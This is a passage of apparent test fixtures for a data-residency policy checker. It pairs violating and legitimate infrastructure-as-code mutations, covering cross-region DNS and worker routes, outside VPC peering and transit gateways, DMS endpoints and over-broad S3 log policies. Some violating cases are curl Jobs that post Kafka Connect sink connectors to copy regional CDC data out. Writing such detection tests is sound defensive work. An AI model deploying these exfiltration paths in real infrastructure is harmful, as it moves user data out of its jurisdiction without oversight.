  V("edge", "ROUTES send jp workspaces to the eu internal host", "edge", { mutate: (j) => setRoute(j, "jp", "https://internal.events.eu.example.com/v1/events") }),
  V("edge", "ROUTES send eu to a load balancer in us-west-2", "edge", { mutate: (j) => setRoute(j, "eu", "https://rk-eu-events-edge-1234.us-west-2.elb.amazonaws.com/v1/events") }),
  V("edge", "ROUTES send kr (no host yet) to jp's host", "edge", { mutate: (j) => setRoute(j, "kr", "https://events.jp.example.com/v1/events") }),
  V("edge", "DNS record of eu's host points at us's load balancer", "edge", {
    add: r("cloudflare_dns_record", "Eu", { zone_id: "${var.cloudflare_zone_id}", name: "events.eu.example.com", type: "CNAME", content: "internal-rk-us-events-int-1234567890.us-west-2.elb.amazonaws.com", ttl: 300, proxied: true }),
  }),
  V("edge", "relative DNS name for jp points at eu's load balancer", "edge", {
    add: r("cloudflare_record", "Jp", { zone_id: "${var.cloudflare_zone_id}", name: "events.jp", type: "CNAME", value: "rk-eu-events-edge-99.eu-central-1.elb.amazonaws.com", proxied: true }),
  }),
  V("edge", "catch-all record sends every workspace to eu", "edge", {
    add: r("cloudflare_dns_record", "All", { zone_id: "${var.cloudflare_zone_id}", name: "events.example.com", type: "CNAME", content: "events.eu.example.com", ttl: 1, proxied: true }),
  }),
  V("edge", "KV entry keyed by a region id names another region's host", "edge", {
    add: r("cloudflare_workers_kv", "Eu", { account_id: "${var.cloudflare_account_id}", namespace_id: "${cloudflare_workers_kv_namespace.EdgeRouter_WorkspaceRegions_13FB6466.id}", key_name: "eu", value: "https://events.us.example.com/v1/events" }),
  }),
  V("edge", "DNS record of eu's host at a literal IP", "edge", { add: r("cloudflare_dns_record", "EuIp", { zone_id: "${var.cloudflare_zone_id}", name: "events.eu.example.com", type: "A", content: "203.0.113.7", ttl: 300 }) }),
  L("legit", "edge, unchanged", "edge", {}),
  L("legit", "DNS record of eu's host at eu's own load balancer", "edge", {
    add: r("cloudflare_dns_record", "Eu", { zone_id: "${var.cloudflare_zone_id}", name: "events.eu.example.com", type: "CNAME", content: "rk-eu-events-edge-1234567890.eu-central-1.elb.amazonaws.com", ttl: 300, proxied: true }),
  }),
  L("legit", "ROUTES send eu to its own internal host", "edge", { mutate: (j) => setRoute(j, "eu", "https://internal.events.eu.example.com/v1/events") }),
  L("legit", "a workspace KV entry and an unrelated record", "edge", {
    add: merge(
      r("cloudflare_workers_kv", "Ws", { account_id: "${var.cloudflare_account_id}", namespace_id: "${cloudflare_workers_kv_namespace.EdgeRouter_WorkspaceRegions_13FB6466.id}", key_name: "0b6f1c1e-3f7a-4d8e-9a51-3a0c2f9b7e11", value: '{"region":"eu"}' }),
      r("cloudflare_dns_record", "Www", { zone_id: "${var.cloudflare_zone_id}", name: "www.example.com", type: "CNAME", content: "example.pages.dev", ttl: 1, proxied: true }),
    ),
  }),

  // ==== the warehouse PrivateLink path, bound by reference =================================================
  V("exception", "warehouse account record retargeted at a literal endpoint host", "data-eu", {
    mutate: (j) => (find(j, "aws_route53_record", (a) => !a.name.startsWith("ocsp."))[1].records = ["vpce-0abc1234def567890-abcdefgh.vpce-svc-0123456789abcdef0.us-west-2.vpce.amazonaws.com"]),
  }),
  V("exception", "warehouse account record pointing at another endpoint of the stack", "data-eu", {
    mutate: (j) => {
      const [other] = find(j, "aws_vpc_endpoint", (a) => a.service_name === "com.amazonaws.eu-central-1.kms");
      find(j, "aws_route53_record", (a) => a.name.startsWith("ocsp."))[1].records = [`\${aws_vpc_endpoint.${other}.dns_entry[0].dns_name}`];
    },
  }),
  V("exception", "warehouse zone also associated with a VPC in us-east-1", "data-eu", {
    mutate: (j) => find(j, "aws_route53_zone", (a) => a.name === "privatelink.snowflakecomputing.com")[1].vpc.push({ vpc_id: "vpc-0123456789abcdef0", vpc_region: "us-east-1" }),
  }),
  V("exception", "warehouse zone also associated with a literal VPC id", "data-eu", {
    mutate: (j) => find(j, "aws_route53_zone", (a) => a.name === "privatelink.snowflakecomputing.com")[1].vpc.push({ vpc_id: "vpc-0123456789abcdef0" }),
  }),
  V("exception", "a second account record in a zone of its own", "data-eu", {
    add: merge(
      r("aws_route53_zone", "Shadow", { name: "privatelink.snowflakecomputing.com", vpc: [{ vpc_id: "vpc-0fedcba9876543210" }] }),
      r("aws_route53_record", "Shadow", { zone_id: "${aws_route53_zone.Shadow.zone_id}", name: "xy12345.us-west-2.privatelink.snowflakecomputing.com", type: "CNAME", ttl: 60, records: ["${aws_vpc_endpoint.Missing.dns_entry[0].dns_name}"] }),
    ),
  }),

  // ==== VPC endpoints to undeclared PrivateLink services ====================================================
  V("external", "interface endpoint to a vendor's PrivateLink service in the region", "data-eu", {
    add: r("aws_vpc_endpoint", "Vendor", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", service_name: "com.amazonaws.vpce.eu-central-1.vpce-svc-0aaaabbbbccccdddd", vpc_endpoint_type: "Interface" }),
  }),
  V("external", "interface endpoint to a PrivateLink service in the backup region", "data-eu", {
    add: r("aws_vpc_endpoint", "Vendor", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", service_name: "com.amazonaws.vpce.eu-west-1.vpce-svc-0aaaabbbbccccdddd", service_region: "eu-west-1", vpc_endpoint_type: "Interface" }),
  }),
  V("mover", "endpoint into a service network made elsewhere", "data-eu", {
    add: r("aws_vpc_endpoint", "Lattice", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", vpc_endpoint_type: "ServiceNetwork", service_network_arn: `arn:aws:vpc-lattice:eu-central-1:${EU}:servicenetwork/sn-0123456789abcdef0` }),
  }),
  L("legit", "SageMaker notebook endpoint in the region", "data-eu", {
    add: r("aws_vpc_endpoint", "Notebook", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", service_name: "aws.sagemaker.eu-central-1.notebook", vpc_endpoint_type: "Interface", private_dns_enabled: true }),
  }),

  // ==== network paths outside the stack =====================================================================
  V("network", "route to a peering connection made elsewhere", "data-eu", { add: r("aws_route", "Peer", { route_table_id: "${aws_route_table.Network_DataRouteTable_01C8929A.id}", destination_cidr_block: "10.99.0.0/16", vpc_peering_connection_id: "pcx-0123456789abcdef0" }) }),
  V("network", "route to a shared transit gateway", "data-eu", { add: r("aws_route", "Tgw", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "0.0.0.0/0", transit_gateway_id: "tgw-0123456789abcdef0" }) }),
  V("network", "inline route to a Cloud WAN core network", "data-eu", {
    add: r("aws_route_table", "Wan", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", route: [{ cidr_block: "10.0.0.0/8", core_network_arn: "arn:aws:networkmanager::222222222222:core-network/core-network-0123456789abcdef0" }] }),
  }),
  V("network", "route to a Gateway Load Balancer endpoint made elsewhere", "data-eu", { add: r("aws_route", "Gwlb", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "0.0.0.0/0", vpc_endpoint_id: "vpce-0123456789abcdef0" }) }),
  V("network", "route to a carrier gateway by id", "data-eu", { add: r("aws_route", "Cagw", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "0.0.0.0/0", carrier_gateway_id: "cagw-0123456789abcdef0" }) }),
  V("network", "route to a transit gateway looked up by a data source", "data-eu", {
    mutate: (j) => ((j.data ??= {}).aws_ec2_transit_gateway = { Shared: { filter: [{ name: "owner-id", values: ["999999999999"] }] } }),
    add: r("aws_route", "Tgw", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "10.0.0.0/8", transit_gateway_id: "${data.aws_ec2_transit_gateway.Shared.id}" }),
  }),
  V("network", "VPC attached to a transit gateway shared from elsewhere", "data-eu", {
    add: r("aws_ec2_transit_gateway_vpc_attachment", "A", { transit_gateway_id: "tgw-0123456789abcdef0", vpc_id: "${aws_vpc.Network_1C6012B5.id}", subnet_ids: ["${aws_subnet.Network_AppSubnet1_D1DBC460.id}"] }),
  }),
  V("network", "accepting a transit gateway attachment made elsewhere", "data-eu", { add: r("aws_ec2_transit_gateway_vpc_attachment_accepter", "A", { transit_gateway_attachment_id: "tgw-attach-0123456789abcdef0" }) }),
  V("network", "in-stack peering to a VPC made elsewhere, and a route to it", "data-eu", {
    add: merge(
      r("aws_vpc_peering_connection", "P", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", peer_vpc_id: "vpc-0123456789abcdef0", auto_accept: true }),
      r("aws_route", "P", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "10.99.0.0/16", vpc_peering_connection_id: "${aws_vpc_peering_connection.P.id}" }),
    ),
  }),
  L("legit", "routes through in-stack gateways and a peering between the stack's own VPCs", "data-eu", {
    add: merge(
      r("aws_vpc", "Tools", { cidr_block: "10.21.0.0/16" }),
      r("aws_vpc_peering_connection", "Tools", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", peer_vpc_id: "${aws_vpc.Tools.id}", auto_accept: true }),
      r("aws_route", "Tools", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "10.21.0.0/16", vpc_peering_connection_id: "${aws_vpc_peering_connection.Tools.id}" }),
      r("aws_route_table", "Local", { vpc_id: "${aws_vpc.Tools.id}", route: [{ cidr_block: "10.21.0.0/16", gateway_id: "local" }] }),
    ),
  }),
  L("legit", "a transit gateway of the stack attaching its own VPC", "data-eu", {
    add: merge(
      r("aws_ec2_transit_gateway", "Tgw", { description: "in-region hub", auto_accept_shared_attachments: "disable" }),
      r("aws_ec2_transit_gateway_vpc_attachment", "A", { transit_gateway_id: "${aws_ec2_transit_gateway.Tgw.id}", vpc_id: "${aws_vpc.Network_1C6012B5.id}", subnet_ids: ["${aws_subnet.Network_AppSubnet1_D1DBC460.id}"] }),
      r("aws_route", "Tgw", { route_table_id: "${aws_route_table.Network_AppRouteTable_40BD7306.id}", destination_cidr_block: "10.128.0.0/16", transit_gateway_id: "${aws_ec2_transit_gateway.Tgw.id}" }),
    ),
  }),

  // ==== movers whose destination is not visible =============================================================
  V("mover", "DMS target endpoint whose host is only in a secret", "data-eu", {
    add: r("aws_dms_endpoint", "Hidden", { endpoint_id: "rk-eu-hidden", endpoint_type: "target", engine_name: "postgres", secrets_manager_arn: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:rk-eu-dms-AbCdEf`, secrets_manager_access_role_arn: `arn:aws:iam::${EU}:role/rk-eu-dms` }),
  }),
  V("mover", "DMS MongoDB endpoint with settings but no host", "data-eu", {
    add: r("aws_dms_endpoint", "Mongo", { endpoint_id: "rk-eu-mongo", endpoint_type: "target", engine_name: "mongodb", secrets_manager_arn: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:rk-eu-mongo-AbCdEf`, mongodb_settings: { auth_type: "password" } }),
  }),
  V("mover", "log subscription filter without a destination", "data-eu", { add: r("aws_cloudwatch_log_subscription_filter", "S", { name: "s", log_group_name: "/rk/eu/app", filter_pattern: "" }) }),
  L("legit", "DMS into DynamoDB of the region", "data-eu", {
    add: r("aws_dms_endpoint", "Ddb", { endpoint_id: "rk-eu-ddb", endpoint_type: "target", engine_name: "dynamodb", service_access_role: `arn:aws:iam::${EU}:role/rk-eu-dms` }),
  }),
  L("legit", "DMS endpoint with its host and a secret for credentials", "data-eu", {
    add: r("aws_dms_endpoint", "Src", { endpoint_id: "rk-eu-src", endpoint_type: "source", engine_name: "postgres", server_name: "rk-eu-shard-002.abcdefghij.eu-central-1.rds.amazonaws.com", port: 5432, database_name: "app", secrets_manager_arn: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:rk-eu-dms-AbCdEf`, secrets_manager_access_role_arn: `arn:aws:iam::${EU}:role/rk-eu-dms` }),
  }),

  // ==== typed Kubernetes resources and the Kafka Connect REST API ===========================================
  V("kubernetes", "typed Service aliasing an external database", "cdc-eu", {
    add: r("kubernetes_service_v1", "Pg", { metadata: { name: "pg", namespace: "cdc" }, spec: { type: "ExternalName", external_name: "pg.vendor.io" } }),
  }),
  V("kubernetes", "typed Service of type LoadBalancer", "cdc-eu", {
    add: r("kubernetes_service_v1", "Lb", { metadata: { name: "connect-public", namespace: "cdc" }, spec: { type: "LoadBalancer", selector: { "strimzi.io/kind": "KafkaConnect" }, port: [{ port: 8083 }] } }),
  }),
  V("kubernetes", "typed Job posting an S3 sink connector to the Connect REST API", "cdc-eu", {
    add: r("kubernetes_job_v1", "Sink", {
      metadata: { name: "add-sink", namespace: "cdc" },
      spec: { template: { metadata: {}, spec: { restart_policy: "Never", container: [{ name: "curl", image: "curlimages/curl:8.8.0", command: ["sh", "-c", `curl -s -X POST -H 'Content-Type: application/json' http://rk-eu-cdc-connect-api.cdc.svc:8083/connectors -d '{"name":"s3","config":{"connector.class":"io.confluent.connect.s3.S3SinkConnector","topics.regex":"eu.cdc.*","s3.bucket.name":"${SANITIZED}"}}'`] }] } } },
    }),
  }),
  V("kubernetes", "typed CronJob putting a connector by its short alias", "cdc-eu", {
    add: r("kubernetes_cron_job_v1", "Sink", {
      metadata: { name: "sink", namespace: "cdc" },
      spec: { schedule: "0 * * * *", job_template: { metadata: {}, spec: { template: { metadata: {}, spec: { container: [{ name: "c", image: "curlimages/curl:8.8.0", args: ["-X", "PUT", "http://connect:8083/connectors/s3/config", "--data", '{"connector.class":"S3Sink","topics":"eu.cdc.block"}'] }] } } } } },
    }),
  }),
  V("kubernetes", "Job posting a connector whose config is in a mounted file", "cdc-eu", {
    add: kafkaManifest("Job", { template: { spec: { restartPolicy: "Never", containers: [{ name: "c", image: "curlimages/curl:8.8.0", command: ["curl", "-X", "POST", "-H", "Content-Type: application/json", "--data-binary", "@/config/connector.json", "http://rk-eu-cdc-connect-api.cdc.svc:8083/connectors"] }] } } }, "batch/v1"),
  }),
  V("kubernetes", "script in a typed ConfigMap creating a connector through $CONNECT_URL", "cdc-eu", {
    add: r("kubernetes_config_map_v1", "Script", { metadata: { name: "bootstrap", namespace: "cdc" }, data: { "run.sh": "#!/bin/sh\ncurl -fsS -X PUT \"$CONNECT_URL/connectors/mm2/config\" --data @/etc/mm2.json\n" } }),
  }),
  V("kubernetes", "typed ConfigMap holding a MirrorMaker source connector", "cdc-eu", {
    add: r("kubernetes_config_map_v1", "Mm2", { metadata: { name: "mm2", namespace: "cdc" }, data: { "mm2.properties": "name=mirror\nconnector.class=org.apache.kafka.connect.mirror.MirrorSourceConnector\nsource.cluster.alias=eu\n" } }),
  }),
  V("kubernetes", "typed Deployment naming the Snowflake sink in its environment", "cdc-eu", {
    add: r("kubernetes_deployment_v1", "D", { metadata: { name: "sidecar", namespace: "cdc" }, spec: { selector: { match_labels: { app: "s" } }, template: { metadata: { labels: { app: "s" } }, spec: { container: [{ name: "s", image: "busybox:1.36", env: [{ name: "CONNECTOR", value: "com.snowflake.kafka.connector.SnowflakeSinkConnector" }] }] } } } }),
  }),
  V("kubernetes", "typed Ingress exposing Connect", "cdc-eu", {
    add: r("kubernetes_ingress_v1", "I", { metadata: { name: "connect", namespace: "cdc" }, spec: { rule: [{ http: { path: [{ path: "/", backend: { service: { name: "rk-eu-cdc-connect-api", port: { number: 8083 } } } }] } }] } }),
  }),
  V("kubernetes", "typed Endpoints sending a Service to an outside address", "cdc-eu", {
    add: r("kubernetes_endpoints_v1", "E", { metadata: { name: "pg", namespace: "cdc" }, subset: [{ address: [{ ip: "10.20.1.5" }], port: [{ port: 5432 }] }] }),
  }),
  V("kubernetes", "typed Pod outside the allowed kinds", "cdc-eu", { add: r("kubernetes_pod_v1", "P", { metadata: { name: "debug", namespace: "cdc" }, spec: { container: [{ name: "d", image: "busybox:1.36" }] } }) }),
  V("kubernetes", "typed admission webhook calling an outside URL", "cdc-eu", {
    add: r("kubernetes_mutating_webhook_configuration_v1", "W", { metadata: { name: "w" }, webhook: [{ name: "w.example.com", client_config: { url: "https://hooks.vendor.io/mutate" }, admission_review_versions: ["v1"], side_effects: "None" }] }),
  }),
  V("kubernetes", "env patch of the Connect Deployment adding an outside sink", "cdc-eu", {
    add: r("kubernetes_env", "Patch", { api_version: "apps/v1", kind: "Deployment", metadata: { name: "rk-eu-cdc-connect", namespace: "cdc" }, container: "connect", env: [{ name: "SINK", value: "kafka.vendor.io:9092" }] }),
  }),
  V("kubernetes", "label patch on a MirrorMaker2 object", "cdc-eu", {
    add: r("kubernetes_labels", "L", { api_version: "kafka.strimzi.io/v1beta2", kind: "KafkaMirrorMaker2", metadata: { name: "mm2", namespace: "cdc" }, labels: { team: "data" } }),
  }),
  L("legit", "typed CronJob reading connector status from the Connect REST API", "cdc-eu", {
    add: r("kubernetes_cron_job_v1", "Status", {
      metadata: { name: "connector-status", namespace: "cdc" },
      spec: { schedule: "*/5 * * * *", job_template: { metadata: {}, spec: { template: { metadata: {}, spec: { container: [{ name: "c", image: "curlimages/curl:8.8.0", command: ["curl", "-fsS", "http://rk-eu-cdc-connect-api.cdc.svc:8083/connectors?expand=status"] }] } } } } },
    }),
  }),
  L("legit", "typed Job posting a Debezium Postgres connector for the region's database", "cdc-eu", {
    add: r("kubernetes_job_v1", "Pg", {
      metadata: { name: "add-pg", namespace: "cdc" },
      spec: { template: { metadata: {}, spec: { restart_policy: "Never", container: [{ name: "curl", image: "curlimages/curl:8.8.0", command: ["sh", "-c", `curl -s -X POST http://rk-eu-cdc-connect-api.cdc.svc:8083/connectors -d '{"name":"pg33","config":{"connector.class":"io.debezium.connector.postgresql.PostgresConnector","database.hostname":"rk-eu-shard-001.abcdefghij.eu-central-1.rds.amazonaws.com","topic.prefix":"eu.cdc"}}'`] }] } } },
    }),
  }),
  L("legit", "typed ClusterIP Service, ServiceAccount, NetworkPolicy and ConfigMap", "cdc-eu", {
    add: merge(
      r("kubernetes_service_v1", "Api", { metadata: { name: "connect-metrics", namespace: "cdc" }, spec: { type: "ClusterIP", selector: { "strimzi.io/kind": "KafkaConnect" }, port: [{ port: 9404 }] } }),
      r("kubernetes_service_account_v1", "Sa", { metadata: { name: "ops", namespace: "cdc" } }),
      r("kubernetes_network_policy_v1", "Np", { metadata: { name: "deny-egress", namespace: "cdc" }, spec: { pod_selector: {}, policy_types: ["Egress"] } }),
      r("kubernetes_config_map_v1", "Cfg", { metadata: { name: "tuning", namespace: "cdc" }, data: { "log4j.properties": "log4j.rootLogger=INFO, stdout\n", "converter": "org.apache.kafka.connect.json.JsonConverter" } }),
    ),
  }),

  // ==== false positives removed: log delivery, in-jurisdiction global databases and keys, configuration ====
  L("legit", "ALB access logs: the eu-central-1 ELB account may put objects into the logs bucket", "data-eu", {
    add: r("aws_s3_bucket_policy", "Alb", { bucket: LOGS, policy: doc([{ Sid: "AlbLogs", Effect: "Allow", Principal: { AWS: "arn:aws:iam::054676820928:root" }, Action: "s3:PutObject", Resource: `arn:aws:s3:::${LOGS}/alb/AWSLogs/${EU}/*` }]) }),
  }),
  L("legit", "ALB access logs in the backup region, granted to its ELB account by bare account id", "data-eu", {
    add: merge(
      r("aws_s3_bucket", "AlbLogs", { provider: "aws.backup", bucket: `rk-eu-alb-logs-backup-${EU}` }),
      r("aws_s3_bucket_policy", "AlbLogs", { provider: "aws.backup", bucket: "${aws_s3_bucket.AlbLogs.id}", policy: doc([{ Effect: "Allow", Principal: { AWS: ["156460612806"] }, Action: ["s3:PutObject"], Resource: ["${aws_s3_bucket.AlbLogs.arn}/AWSLogs/*"] }]) }),
    ),
  }),
  V("principal", "another region's ELB log-delivery account on the logs bucket", "data-eu", {
    add: r("aws_s3_bucket_policy", "Alb", { bucket: LOGS, policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::127311923021:root" }, Action: "s3:PutObject", Resource: `arn:aws:s3:::${LOGS}/AWSLogs/*` }]) }),
  }),
  V("principal", "the region's ELB log-delivery account allowed to read the raw lake", "data-eu", {
    add: r("aws_s3_bucket_policy", "Alb", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::054676820928:root" }, Action: ["s3:PutObject", "s3:GetObject"], Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  }),
  V("principal", "the region's ELB log-delivery account writing into a bucket that is not the region's", "data-eu", {
    add: r("aws_s3_bucket_policy", "Alb", { bucket: LOGS, policy: doc([{ Effect: "Allow", Principal: { AWS: "054676820928" }, Action: "s3:PutObject", Resource: "arn:aws:s3:::partner-alb-logs/*" }]) }),
  }),
  V("principal", "the ELB log-delivery account trusted by a role", "data-eu", {
    add: r("aws_iam_role", "Elb", { name: "rk-eu-elb", assume_role_policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::054676820928:root" }, Action: "sts:AssumeRole" }]) }),
  }),
  L("legit", "Aurora global database with its secondary in the backup region", "data-eu", {
    add: merge(
      r("aws_rds_global_cluster", "G", { global_cluster_identifier: "rk-eu-global", engine: "aurora-postgresql", storage_encrypted: true }),
      r("aws_rds_cluster", "Primary", { cluster_identifier: "rk-eu-aurora", engine: "aurora-postgresql", global_cluster_identifier: "${aws_rds_global_cluster.G.id}", storage_encrypted: true }),
      r("aws_rds_cluster", "Secondary", { provider: "aws.backup", cluster_identifier: "rk-eu-aurora-dr", engine: "aurora-postgresql", global_cluster_identifier: "rk-eu-global", storage_encrypted: true, kms_key_id: `arn:aws:kms:eu-west-1:${EU}:key/00000000-0000-0000-0000-000000000001` }),
    ),
  }),
  V("placement", "Aurora global database with a secondary in us-east-1", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "far", region: "us-east-1" }),
    add: merge(
      r("aws_rds_global_cluster", "G", { global_cluster_identifier: "rk-eu-global", engine: "aurora-postgresql" }),
      r("aws_rds_cluster", "Primary", { cluster_identifier: "rk-eu-aurora", engine: "aurora-postgresql", global_cluster_identifier: "${aws_rds_global_cluster.G.id}" }),
      r("aws_rds_cluster", "Far", { provider: "aws.far", cluster_identifier: "rk-eu-aurora-far", engine: "aurora-postgresql", global_cluster_identifier: "rk-eu-global" }),
    ),
  }),
  V("mover", "cluster joining a global database made elsewhere", "data-eu", { add: r("aws_rds_cluster", "Joiner", { cluster_identifier: "rk-eu-joiner", engine: "aurora-postgresql", global_cluster_identifier: "acme-global-analytics" }) }),
  L("legit", "multi-region KMS key replicated into the backup region", "data-eu", {
    add: merge(
      r("aws_kms_key", "Mrk", { description: "multi-region key for the DR copy", multi_region: true, enable_key_rotation: true }),
      r("aws_kms_replica_key", "MrkDr", { provider: "aws.backup", description: "replica in eu-west-1", primary_key_arn: "${aws_kms_key.Mrk.arn}" }),
    ),
  }),
  V("placement", "multi-region KMS key replicated into another jurisdiction", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "far", region: "ap-southeast-1" }),
    add: merge(r("aws_kms_key", "Mrk", { description: "mrk", multi_region: true }), r("aws_kms_replica_key", "Far", { provider: "aws.far", primary_key_arn: "${aws_kms_key.Mrk.arn}" })),
  }),
  V("reference", "replica key of another jurisdiction's primary", "data-eu", { add: r("aws_kms_replica_key", "R", { provider: "aws.backup", primary_key_arn: "arn:aws:kms:us-west-2:111111111111:key/mrk-0123456789abcdef0123456789abcdef" }) }),
  L("legit", "SSM parameter holding the region's configuration as JSON", "data-eu", {
    add: r("aws_ssm_parameter", "Cfg", {
      name: "/rk/eu/app/config",
      type: "SecureString",
      key_id: "alias/rk-eu-streaming",
      value: JSON.stringify({ lake: `s3://${RAW}/`, region: "eu-central-1", backupRegion: "eu-west-1", kafka: "b-1.rk-eu-kafka.abc123.c3.kafka.eu-central-1.amazonaws.com:9098", events: "https://events.eu.example.com/v1/events" }),
    }),
  }),
  L("legit", "launch template AMI from AWS's public EKS parameter", "data-eu", {
    mutate: (j) => ((j.data ??= {}).aws_ssm_parameter = { EksAmi: { name: "/aws/service/eks/optimized-ami/1.31/amazon-linux-2023/x86_64/standard/recommended/image_id" } }),
    add: r("aws_launch_template", "Lt", { name: "rk-eu-tools", image_id: "${data.aws_ssm_parameter.EksAmi.value}", metadata_options: { http_tokens: "required" } }),
  }),
  V("expression", "an SSM parameter of the account read as a mover's destination", "data-eu", {
    mutate: (j) => ((j.data ??= {}).aws_ssm_parameter = { Sink: { name: "/rk/eu/sink-queue-arn" } }),
    add: merge(r("aws_sns_topic", "T", { name: "rk-eu-t" }), r("aws_sns_topic_subscription", "S", { topic_arn: "${aws_sns_topic.T.arn}", protocol: "sqs", endpoint: "${data.aws_ssm_parameter.Sink.value}" })),
  }),

  // ==== round 3, second pass: the same classes through other shapes ========================================
  V("edge", "load-balancer pool for eu with an origin at us's load balancer", "edge", {
    add: r("cloudflare_load_balancer_pool", "Eu", { account_id: "${var.cloudflare_account_id}", name: "rk-eu-events", origins: [{ name: "primary", address: "rk-us-events-edge-1234.us-west-2.elb.amazonaws.com", enabled: true }] }),
  }),
  V("edge", "worker binding named for eu carrying us's host", "edge", {
    mutate: (j) => find(j, "cloudflare_workers_script")[1].bindings.push({ type: "plain_text", name: "EU_ENDPOINT", text: "https://events.us.example.com/v1/events" }),
  }),
  V("edge", "worker code with an inline table sending eu to us", "edge", {
    add: r("cloudflare_workers_script", "Inline", { account_id: "${var.cloudflare_account_id}", script_name: "rk-edge-inline", content: 'const ROUTES = { eu: "https://events.us.example.com/v1/events", us: "https://events.us.example.com/v1/events" };\nexport default { fetch: (r) => fetch(ROUTES.eu, r) };', main_module: "worker.js" }),
  }),
  L("legit", "worker binding named for eu carrying eu's host", "edge", {
    mutate: (j) => find(j, "cloudflare_workers_script")[1].bindings.push({ type: "plain_text", name: "EU_ENDPOINT", text: "https://events.eu.example.com/v1/events" }),
  }),
  L("legit", "worker code with a correct inline table", "edge", {
    add: r("cloudflare_workers_script", "Inline", { account_id: "${var.cloudflare_account_id}", script_name: "rk-edge-inline", content: 'const ROUTES = { eu: "https://events.eu.example.com/v1/events", jp: "https://events.jp.example.com/v1/events" };\nexport default { fetch: (r) => fetch(ROUTES.eu, r) };', main_module: "worker.js" }),
  }),
  V("mover", "DMS endpoint whose host is what a secret version of the stack holds", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).dsn = { type: "string", sensitive: true }),
    add: merge(
      r("aws_secretsmanager_secret_version", "Dsn", { secret_id: "rk-eu-dms", secret_string: "${var.dsn}" }),
      r("aws_dms_endpoint", "Db", { endpoint_id: "rk-eu-db", endpoint_type: "target", engine_name: "postgres", server_name: "${aws_secretsmanager_secret_version.Dsn.secret_string}", port: 5432 }),
    ),
  }),
  L("legit", "DMS endpoint whose host is an SSM parameter value the stack writes", "data-eu", {
    add: merge(
      r("aws_ssm_parameter", "Host", { name: "/rk/eu/dms/host", type: "String", value: "rk-eu-shard-003.abcdefghij.eu-central-1.rds.amazonaws.com" }),
      r("aws_dms_endpoint", "Db", { endpoint_id: "rk-eu-db", endpoint_type: "source", engine_name: "postgres", server_name: "${aws_ssm_parameter.Host.value}", port: 5432 }),
    ),
  }),
  L("legit", "ALB logs bucket policy from a policy document naming the region's ELB account", "data-eu", {
    mutate: (j) =>
      ((j.data ??= {}).aws_iam_policy_document = { AlbLogs: { statement: [{ effect: "Allow", principals: [{ type: "AWS", identifiers: ["arn:aws:iam::054676820928:root"] }], actions: ["s3:PutObject"], resources: [`arn:aws:s3:::${LOGS}/alb/AWSLogs/${EU}/*`] }] } }),
    add: r("aws_s3_bucket_policy", "Alb", { bucket: LOGS, policy: "${data.aws_iam_policy_document.AlbLogs.json}" }),
  }),
  L("legit", "ALB logs delivered by the log-delivery service principal into the account's own log path", "data-eu", {
    add: r("aws_s3_bucket_policy", "Alb", { bucket: LOGS, policy: doc([{ Effect: "Allow", Principal: { Service: "logdelivery.elasticloadbalancing.amazonaws.com" }, Action: "s3:PutObject", Resource: `arn:aws:s3:::${LOGS}/alb/AWSLogs/${EU}/*` }]) }),
  }),
  V("principal", "log-delivery service principal writing anywhere in the raw lake", "data-eu", {
    add: r("aws_s3_bucket_policy", "Alb", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { Service: "logdelivery.elasticloadbalancing.amazonaws.com" }, Action: "s3:PutObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  }),
  V("principal", "policy document granting the ELB account, used by a role trust", "data-eu", {
    mutate: (j) => ((j.data ??= {}).aws_iam_policy_document = { Trust: { statement: [{ effect: "Allow", principals: [{ type: "AWS", identifiers: ["054676820928"] }], actions: ["sts:AssumeRole"] }] } }),
    add: r("aws_iam_role", "Elb", { name: "rk-eu-elb", assume_role_policy: "${data.aws_iam_policy_document.Trust.json}" }),
  }),

  V("edge", "routes as a list of region entries sending eu to us's host", "edge", {
    mutate: (j) => find(j, "cloudflare_workers_script")[1].bindings.push({ type: "json", name: "ROUTE_LIST", json: JSON.stringify([{ region: "eu", url: "https://events.us.example.com/v1/events" }, { region: "jp", url: "https://events.jp.example.com/v1/events" }]) }),
  }),
  L("legit", "routes as a list of region entries, each to its own host", "edge", {
    mutate: (j) => find(j, "cloudflare_workers_script")[1].bindings.push({ type: "json", name: "ROUTE_LIST", json: JSON.stringify([{ region: "eu", url: "https://events.eu.example.com/v1/events" }, { region: "jp", url: "https://events.jp.example.com/v1/events" }]) }),
  }),
  V("kubernetes", "Job posting a connector file with curl -XPOST -d@", "cdc-eu", {
    add: kafkaManifest("Job", { template: { spec: { restartPolicy: "Never", containers: [{ name: "c", image: "curlimages/curl:8.8.0", args: ["-XPOST", "-d@/cfg/sink.json", "http://connect:8083/connectors"] }] } } }, "batch/v1"),
  }),
  V("mover", "SageMaker domain sharing notebooks to a bucket from a variable", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).share = { type: "string" }),
